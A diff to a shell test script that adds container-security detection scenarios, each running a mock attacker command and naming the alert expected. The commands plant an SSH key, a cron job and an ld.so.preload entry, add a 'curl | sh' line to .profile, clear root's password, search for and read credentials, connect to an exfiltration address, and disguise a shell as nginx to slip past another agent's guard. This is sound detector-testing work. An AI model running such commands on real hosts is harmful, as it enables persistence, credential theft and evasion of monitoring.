@@ -109,6 +109,36 @@ scenario metadata "-v $ATTACK:/attack:ro" '/attack connect 169.254.169.254 80' \
 	"Cloud metadata service contacted from container"
 scenario k8sapi "--network host -v $ATTACK:/attack:ro" '/attack connect 127.0.0.1 6443' \
 	"Kubernetes API contacted from container"
+scenario debugfs "" 'mkdir -p /usr/local/bin && ln -s /bin/busybox /usr/local/bin/debugfs && /usr/local/bin/debugfs 2>/dev/null; true' \
+	"Debugfs in container"
+scenario packet "-v $ATTACK:/attack:ro" '/attack packet-socket 2>/dev/null; true' \
+	"Packet socket created in container"
+scenario links "" 'mkdir -p /root/.ssh && echo k >/root/.ssh/id_rsa && ln /root/.ssh/id_rsa /tmp/h && ln -s /etc/shadow /tmp/s' \
+	"Link to sensitive file"
+scenario search "" 'grep -r id_rsa /etc >/dev/null; find /etc -name id_rsa >/dev/null; true' \
+	"Credential search"
+scenario environ "" 'sleep 2 & cat /proc/$!/environ >/dev/null; kill $!' \
+	"Process environment read in container"
+scenario traversal "" 'mkdir -p /srv/www && cd /srv/www && cat ../../etc/hostname >/dev/null' \
+	"Directory traversal to a system file"
+scenario preload "" 'echo /nonexistent.so >/etc/ld.so.preload' \
+	"Dynamic linker preload modified"
+scenario authkeys "" 'mkdir -p /root/.ssh && echo "ssh-ed25519 AAAAC3Nza x@y" >>/root/.ssh/authorized_keys' \
+	"SSH authorized keys modified"
+scenario cron "" 'mkdir -p /etc/cron.d && echo "* * * * * root /tmp/x" >/etc/cron.d/x' \
+	"Cron job written"
+scenario shred "" 'echo data >/tmp/f && shred -u /tmp/f' \
+	"Bulk data destruction"
+# a server that runs a command through a shell (system()): the container's shell renamed
+# to nginx (an image program, so that a drift guard of another agent cannot stop it)
+scenario server "" 'printf nginx >/proc/self/comm && /bin/sh -c id >/dev/null; true' \
+	"Shell spawned by a server"
+scenario shellrc "" 'echo "curl -s x | sh" >>/root/.profile' \
+	"Shell configuration modified"
+scenario usermgmt "" 'passwd -d root >/dev/null 2>&1; true' \
+	"User account changed in container;Write below /etc in container"
+scenario devfile "" 'echo payload >/dev/.cache' \
+	"File created below /dev"
 scenario exfil "--network host -v $ATTACK:/attack:ro" "mkdir -p /root/.aws && echo k >/root/.aws/credentials && cat /root/.aws/credentials >/dev/null && /attack connect $EXFIL_IP $((PORT + 1))" \
 	"Sensitive file read by unexpected program;Sensitive read then egress"
 
